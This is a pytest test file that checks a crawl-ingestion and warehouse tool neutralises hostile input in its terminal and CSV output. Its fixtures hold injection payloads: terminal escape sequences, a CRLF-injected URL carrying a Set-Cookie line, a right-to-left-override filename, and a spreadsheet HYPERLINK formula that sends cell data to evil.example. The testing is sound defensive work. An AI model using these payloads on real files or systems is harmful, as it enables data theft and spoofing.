"""What a crawled page, its URL or its file's name says is read and never obeyed: not by a terminal, not by a spreadsheet."""

import csv
import io
import json
import re
from pathlib import Path

import pytest

from flows.terminal import shown
from tests.conftest import Run
from tests.flows.bad_inputs import article
from warehouse.ask import ask
from warehouse.csv_cells import FORMULA

TITLE_OF_WINDOW, BELL, REVERSED, C1 = "\x1b]0;owned\x07", "\x07", "\u202egpj.exe", "\x9b31m"
HOSTILE_URL = f"https://news.example/{TITLE_OF_WINDOW}\r\nSet-Cookie:x{C1}{REVERSED}"
FORMULA_TITLE = '=HYPERLINK("https://evil.example/?"&A1,"Ferry stays in port today")'
ACTS = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]")


@pytest.fixture(scope="module")
def hostile_home(broadsheet: Run, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A home loaded from a table whose URL, title and file name are after the reader, and from a page that is refused."""
    folder = tmp_path_factory.mktemp("hostile")
    (folder / "in").mkdir()
    rows = [
        {"url": HOSTILE_URL, "html": article(FORMULA_TITLE.replace('"', "&quot;")), "observed_at": "2026-03-01T08:00:00Z"},
        {"url": "https://news.example/2", "html": article("-5 degrees in the harbour"), "observed_at": "2026-03-01T08:00:00Z"},
        {"url": f"{HOSTILE_URL}/refused", "html": "<p>too little", "observed_at": "2026-03-01T08:00:00Z"},
    ]
    (folder / "in" / f"crawl{TITLE_OF_WINDOW}\n{REVERSED}.jsonl").write_text("".join(json.dumps(row) + "\n" for row in rows))
    (folder / "in" / f"empty{BELL}.html").touch()
    done = broadsheet("ingest", folder / "in", "--home", folder / "home")
    assert done.returncode == 0, done.stderr
    assert not ACTS.search(done.stdout + done.stderr)
    assert HOSTILE_URL in [url for (url,) in ask(folder / "home", "SELECT url FROM raw.pages").rows], "the warehouse has it as it was"
    return folder / "home"


@pytest.mark.parametrize("arguments", [
    ["sql", "SELECT url FROM raw.pages"],
    ["sql", "SELECT url, source_uri FROM raw.pages", "--json"], ["rejects"], ["rejects", "--json"],
    ["explain", HOSTILE_URL], ["explain", HOSTILE_URL, "--json"], ["explain", f"{HOSTILE_URL}/nowhere"],
])  # fmt: skip
def test_no_command_prints_what_a_terminal_acts_upon(broadsheet: Run, hostile_home: Path, arguments: list[str]):
    done = broadsheet(*arguments, "--home", hostile_home)
    assert not ACTS.search(done.stdout + done.stderr)
    assert re.search(r"\\(x1b|u001b|e)\]0;owned", done.stdout + done.stderr), done.stderr


def test_a_line_break_in_a_url_begins_no_line_of_ours(broadsheet: Run, hostile_home: Path):
    for command in (["rejects"], ["explain", HOSTILE_URL]):
        lines = broadsheet(*command, "--home", hostile_home).stdout.splitlines()
        assert lines
        assert not [line for line in lines if line.startswith("Set-Cookie")]


def test_json_loses_nothing(broadsheet: Run, hostile_home: Path):
    done = broadsheet("sql", "SELECT url FROM raw.pages ORDER BY length(url)", "--json", "--home", hostile_home)
    assert HOSTILE_URL in [row["url"] for row in json.loads(done.stdout)]


def cells(done_output: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(done_output, newline="")))[1:]


def test_csv_has_no_formula_and_no_escape_unless_it_is_asked_for(broadsheet: Run, hostile_home: Path):
    query = "SELECT title, -5 AS degrees, ['=1+1'] AS list, '+1' AS plus, body FROM core.articles ORDER BY title"
    safe, exact = (broadsheet("sql", query, "--csv", *more, "--home", hostile_home) for more in ([], ["--raw"]))
    titles = ["-5 degrees in the harbour", FORMULA_TITLE]
    assert [(row[0], row[1]) for row in cells(exact.stdout)] == [(title, "-5") for title in titles]
    assert [(row[0], row[1]) for row in cells(safe.stdout)] == [(f"'{title}", "-5") for title in titles]
    assert [row[2:4] for row in cells(safe.stdout)] == [['["=1+1"]', "'+1"]] * 2
    assert cells(safe.stdout)[0][4] == cells(exact.stdout)[0][4], "paragraphs keep their lines"


def test_csv_shows_control_characters_of_urls(broadsheet: Run, hostile_home: Path):
    query = "SELECT url FROM raw.pages WHERE url LIKE '%owned%' ORDER BY length(url)"
    safe = broadsheet("sql", query, "--csv", "--home", hostile_home).stdout
    assert not set(safe) & {"\x1b", "\x07", "\x9b"}
    assert cells(safe)[0] == [HOSTILE_URL.translate({0x1B: r"\x1b", 0x07: r"\x07", 0x0D: r"\r", 0x9B: r"\x9b"})]
    assert "\x1b" in broadsheet("sql", query, "--csv", "--raw", "--home", hostile_home).stdout


def test_words_of_every_script_are_shown_as_they_are():
    for text in ("café – “ferry”", "最後一位舢舨", "مرحبا", "שלום", "👩‍🚀", "किताब"):
        assert shown(text) == text
    assert shown("a\tb\u2028c\ud83d") == r"a\tb\u2028c\ud83d"
    assert {"=", "+", "-", "@", "\t", "\r"} <= set(FORMULA)
